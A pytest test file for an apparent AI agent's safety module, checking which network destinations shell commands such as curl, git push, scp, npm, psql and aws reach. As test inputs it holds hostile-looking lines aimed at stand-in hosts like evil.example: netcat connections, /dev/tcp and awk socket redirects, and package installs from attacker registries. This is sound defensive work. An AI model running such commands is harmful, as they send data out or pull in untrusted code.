"""Where a line of shell would send data, by what each of its commands touches."""

from pathlib import PurePath

import pytest

from droid.domain.levels import Risk
from droid.safety.commands.classify import classify
from droid.safety.commands.model import (
    Assessment,
    Effects,
    Inner,
    InnerKind,
    RatedCommand,
    Redirect,
    RedirectKind,
    SimpleCommand,
    Touch,
    Touched,
)
from droid.safety.commands.words import UNKNOWN, Word
from droid.safety.destinations import destinations_of, git_folders, reaches_out
from droid.safety.hosts import Destination
from droid.safety.remotes import Remotes, remotes_of

HERE = PurePath("/work/shop")
REMOTES = remotes_of(
    [
        ("remote.origin.url", "git@github.com:me/shop.git"),
        ("remote.up.url", "gh:up/shop"),
        ("remote.up.pushurl", "https://x-token:abc@git.example.com:8443/up/shop.git"),
        ("url.https://github.com/.insteadof", "gh:"),
        ("branch.main.remote", "origin"),
    ]
)


def commands(*made: tuple[str, Effects], undecidable: str | None = None, **more: object) -> Assessment:
    rated = [
        RatedCommand(
            command=SimpleCommand(words=tuple(map(Word, line.split())), **more),  # type: ignore[arg-type]
            effects=effects,
            risk=effects.risk,
        )
        for line, effects in made
    ]
    return Assessment(
        risk=Risk.HIGH, programs=None, reasons=(), commands=tuple(rated), undecidable=undecidable
    )


def row(name: str = "", *touched: tuple[Touch, str], risk: Risk = Risk.MEDIUM, **more: object) -> Effects:
    found = tuple(Touched(how, Word(text)) for how, text in touched)
    return Effects(risk=risk, reason="", row=name, touched=found, **more)  # type: ignore[arg-type]


def names(assessment: Assessment, remotes: dict[str, Remotes] | None = None) -> list[str]:
    return [
        place.name if place.named else "?"
        for place in destinations_of(assessment, {"": REMOTES} if remotes is None else remotes)
    ]


@pytest.mark.parametrize(
    ("line", "effects", "expected"),
    [
        ("curl https://a.example/x", row("curl", (Touch.FETCH, "https://a.example/x")), ["a.example"]),
        ("curl a.example b.example", row("curl", (Touch.FETCH, "a.example"), (Touch.HOST, "b.example")),
         ["a.example", "b.example"]),
        ("curl -T x", row("curl", (Touch.SEND, "x")), ["?"]),
        ("curl https://a.example", row("curl", (Touch.FETCH, f"https://a.example{UNKNOWN}")), ["?"]),
        ("curl -x p https://a.example", row("curl", (Touch.FETCH, "https://a.example")), ["a.example", "?"]),
        ("curl -sSx p https://a.example", row("curl", (Touch.FETCH, "https://a.example")), ["a.example", "?"]),
        ("curl -sSo x https://a.example", row("curl", (Touch.FETCH, "https://a.example")), ["a.example"]),
        ("curl --connect-to ::b: https://a.example", row("curl", (Touch.FETCH, "https://a.example")),
         ["a.example", "?"]),
        ("wget -i list https://a.example", row("wget", (Touch.FETCH, "https://a.example")), ["a.example", "?"]),
        ("curl --help", row("curl", only_help=True), []),
        ("scp x ada@b.example:y", row("scp", (Touch.SEND, "x"), (Touch.HOST, "ada@b.example:y")), ["b.example"]),
        ("docker push registry.example/x:1", row("docker push", (Touch.HOST, "registry.example/x:1")),
         ["registry.example"]),
        ("docker push me/x", row("docker push", (Touch.HOST, "me/x")), ["docker.io"]),
        ("unknown --to=https://a.example/x", row(), ["a.example"]),
        ("unknown {'u':'https://a.example/x'}", row(), ["a.example"]),
        ("curl a.example", row(), ["?"]),
        ("nc evil 80", row(), ["?"]),
        ("gh pr create", row("gh pr create"), ["github.com"]),
        ("gh alias list", row("gh alias list"), []),
        ("npm publish", row(), ["?"]),
        ("npm install", row("npm install"), []),
        ("npm install --registry=https://evil.example x", row("npm install"), ["evil.example"]),
        ("pip install -i https://evil.example/simple x", row("pip install"), ["evil.example"]),
        ("open https://a.example", row("open", risk=Risk.LOW), []),
        ("dig x.evil.example", row("dig", operands=(Word("x.evil.example"),)), ["x.evil.example"]),
        ("dig @evil.example x", row("dig", operands=(Word("@evil.example"), Word("x"))), ["evil.example", "x"]),
        ("ping x", row("ping", operands=(Word(UNKNOWN),)), ["?"]),
        ("rsync -a a b.example:c", row("rsync", operands=(Word("a"), Word("b.example:c"))), ["b.example"]),
        ("rsync -a a/ b/", row("rsync", operands=(Word("a/"), Word("b/"))), []),
        ("docker push registry.example/x", row("docker push"), ["registry.example"]),
        ("docker build .", row("docker build"), []),
        ("kubectl get pods", row("kubectl get"), ["the cluster that is configured"]),
        ("make deploy", row("make"), []),
        ("cat x", row("cat", (Touch.READ, "x")), []),
        ("python -c x", row("python", inner=(Inner(kind=InnerKind.CODE, language="python",
         text=Word("urlopen('https://a.example/' + x)")),)), ["a.example"]),
        ("python -c x", row("python", inner=(Inner(kind=InnerKind.CODE, language="python",
         text=Word("socket.create_connection((h, 80))")),)), ["?"]),
        ("python -c x", row("python", inner=(Inner(kind=InnerKind.CODE, language="python",
         text=Word("print(1)")),)), []),
        # git
        ("git push origin", row("git push", (Touch.HOST, "origin")), ["github.com/me/shop"]),
        ("git push", row("git push"), ["github.com/me/shop", "git.example.com:8443/up/shop",
         "github.com/up/shop", "gh/up/shop"]),
        ("git push evil", row("git push", (Touch.HOST, "evil")), ["?"]),
        ("git push ../copy", row("git push", (Touch.HOST, "../copy")), []),
        ("git push https://u:p@GitHub.com/me/shop", row("git push", (Touch.HOST, "https://u:p@GitHub.com/me/shop")),
         ["github.com/me/shop"]),
        ("git push git@github.com:evil/x", row("git push", (Touch.HOST, "git@github.com:evil/x")),
         ["github.com/evil/x"]),
        ("git push ext::x", row("git push", (Touch.HOST, "ext::x")), ["?"]),
        ("git clone gh:a/b", row("git clone", (Touch.FETCH, "https://github.com/a/b")), ["github.com/a/b"]),
        ("git submodule update", row("git submodule update"), ["?"]),
        ("git remote add -f e https://e", row("git remote add"), ["?"]),
        ("git remote add e https://e", row("git remote add"), []),
        ("git commit", row("git commit"), []),
        ("git x", row("git", undecidable="an alias"), ["?"]),
        ("git -c x push origin", row("git push", (Touch.HOST, "origin"),
         options=(("-c", Word("url.https://e/.insteadOf=git@")),)), ["github.com/me/shop", "?"]),
        ("git -c x push origin", row("git push", (Touch.HOST, "origin"), options=(("-c", Word("core.pager=cat")),)),
         ["github.com/me/shop"]),
        ("git --git-dir x push origin", row("git push", (Touch.HOST, "origin"),
         options=(("--git-dir", Word("/x")),)), ["?"]),
    ],
)  # fmt: skip
def test_a_command_reaches(line: str, effects: Effects, expected: list[str]) -> None:
    assert sorted(set(names(commands((line, effects))))) == sorted(set(expected))


def test_a_line_that_cannot_be_told_reaches_a_place_that_cannot_be_told() -> None:
    assessment = commands(("ls", row("ls")), undecidable="the program is not known")
    assert names(assessment) == ["?"]
    assert reaches_out(assessment) == "a command that cannot be told"


def test_variables_may_lead_a_connection_elsewhere() -> None:
    effects = row("curl", (Touch.FETCH, "https://a.example"))
    for name, expected in (("HTTPS_PROXY", ["a.example", "?"]), ("LANG", ["a.example"])):
        assessment = commands(("curl https://a.example", effects), assignments=((name, Word("x")),))
        assert names(assessment) == expected


def test_a_shell_opens_a_connection_as_a_file() -> None:
    redirect = Redirect(kind=RedirectKind.WRITE, target=Word("/dev/tcp/evil.example/80"))
    assert names(commands(("cat x", row("cat")), redirects=(redirect,))) == ["evil.example:80"]


def test_a_line_that_changes_a_remote_before_it_pushes_is_not_known() -> None:
    push = ("git push origin", row("git push", (Touch.HOST, "origin")))
    changes = [
        ("git remote set-url origin https://e", row("git remote set-url")),
        ("git config remote.origin.url https://e", row("git config")),
        ("sed -i x .git/config", row("sed", (Touch.WRITE, ".git/config"))),
    ]
    for change in changes:
        assert names(commands(change, push)) == ["github.com/me/shop", "?"]
    looks = ("git config remote.origin.url", row("git config", risk=Risk.LOW))
    assert names(commands(looks, push)) == ["github.com/me/shop"]


def test_a_repository_elsewhere_has_remotes_of_its_own() -> None:
    effects = row("git push", (Touch.HOST, "origin"), options=(("-C", Word("sub")),))
    assessment = commands(("git -C sub push origin", effects))
    assert git_folders(assessment) == {"sub"}
    assert names(assessment) == ["?"]
    assert names(assessment, {"sub": remotes_of([("remote.origin.url", "https://b.example/x")])}) == [
        "b.example/x"
    ]


def test_settings_that_lead_git_elsewhere_are_places_of_their_own() -> None:
    before = remotes_of([("remote.origin.url", "https://b.example/x")])
    after = remotes_of([("remote.origin.url", "https://b.example/x"), ("http.proxy", "http://evil.example")])
    assessment = commands(("git push origin", row("git push", (Touch.HOST, "origin"))))
    assert set(names(assessment, {"": before})) == before.known() == {"b.example/x"}
    assert len(set(names(assessment, {"": after})) - before.known()) == 1
    assert set(names(assessment, {"": after})) == after.known()
    assert "evil" not in "".join(after.known())


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls -la && cat README.md", None),
        ("git commit -m 'see https://a.example'", None),
        ("echo https://a.example", None),
        ("bash -c 'curl https://a.example'", "curl"),
        ("gh issue view 3", "gh issue view"),
        ("git fetch origin", "git fetch"),
        ("cat < /dev/tcp/a.example/80", "cat"),
        ("$TOOL x", "a command that cannot be told"),
    ],
)
def test_a_command_brings_in_text_of_the_network(line: str, expected: str | None) -> None:
    found = reaches_out(classify(line, cwd=HERE, home=PurePath("/home/ada"), workspace=HERE))
    assert (found or "").split(" ")[0] == (expected or "").split(" ")[0]


def test_each_place_is_told_once() -> None:
    effects = row("curl", (Touch.FETCH, "https://a.example"), (Touch.FETCH, "https://a.example/y"))
    assert destinations_of(commands(("curl", effects))) == (Destination(name="a.example", host="a.example"),)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("aws s3 cp a s3://bucket/x", ["s3://bucket"]),
        ("aws s3 cp a s3://bucket/x --endpoint-url http://evil.example", ["evil.example", "s3://bucket"]),
        ("aws --endpoint-url http://evil.example s3 ls", ["evil.example"]),
        ("gsutil cp a gs://bucket", ["gs://bucket"]),
        ("gh api repos/x/y --hostname evil.example", ["?", "github.com"]),
        ("kubectl --context evil apply -f x", ["?", "the cluster that is configured"]),
        ("kubectl -s evil.example get pods", ["?", "the cluster that is configured"]),
        ("docker -H tcp://evil.example:2375 build .", ["evil.example:2375"]),
        ("npm publish --registry http://evil.example", ["evil.example"]),
        ("npm publish", ["?"]),
        ("pip install git+https://evil.example/x", ["evil.example"]),
        ("psql -h db.example -c 'select 1'", ["db.example"]),
        ("psql postgresql://db.example/x", ["db.example"]),
        ("psql 'host=db.example dbname=x'", ["db.example"]),
        ("PGHOST=db.example psql", ["?"]),
        ("mysql -hdb.example", ["db.example"]),
        ("mysql --host=db.example shop", ["db.example"]),
        ('psql -h "$X"', ["?"]),
        ("redis-cli -u redis://db.example", ["db.example"]),
        ("mongosh db.example:27017/shop", ["db.example:27017"]),
        ("psql shop", []),
        ("psql -f dump.sql", []),
        ("psql -h localhost shop", []),
        ("psql -h /var/run/postgresql shop", []),
        ("redis-cli get a.b", []),
        ("http POST evil.example a=b", ["?"]),
        ("ftp evil.example", ["?"]),
        ("openssl s_client -connect evil.example:443", ["?"]),
        ("openssl x509 -in a -noout", []),
        ("svn commit -m x", ["?"]),
        ("hg push evil", ["?"]),
        ("tar -cf evil.example:/x .", ["?"]),
        ("tar -cf x.tar .", []),
        ("gpg --send-keys x", ["?"]),
        ("ffmpeg -i a rtmp://evil.example/x", ["evil.example"]),
        ("ffmpeg -i a b.mp4", []),
        ("mosquitto_pub -h evil.example -m x", ["?"]),
        ("kcat -b evil.example:1 -P", ["?"]),
        ("smbclient //evil.example/x", ["?"]),
        ("mail -s x ada@evil.example", ["?"]),
        ("rclone copy a remote:b", ["?"]),
        ("rclone copy a /tmp/b", []),
        ("ssh-keyscan evil.example", ["evil.example"]),
        ("nmap evil.example", ["?"]),
        ('awk \'BEGIN{s="/inet/tcp/0/evil.example/80"; print "x" |& s}\'', ["?"]),
        ("vercel", ["vercel.com"]),
        ("surge . x.surge.sh", ["?"]),
        ("mvn deploy", ["?"]),
        ("mvn test", []),
        ("make deploy", []),
        ("npm run deploy", []),
        ("docker compose up", []),
        ("kill -9 4", []),
        ("curl file:///tmp/x", []),
    ],
)
def test_a_line_reaches(line: str, expected: list[str]) -> None:
    """With what the table of programs says of it today."""
    assessment = classify(line, cwd=HERE, home=PurePath("/home/ada"), workspace=HERE)
    assert sorted(set(names(assessment))) == sorted(expected)
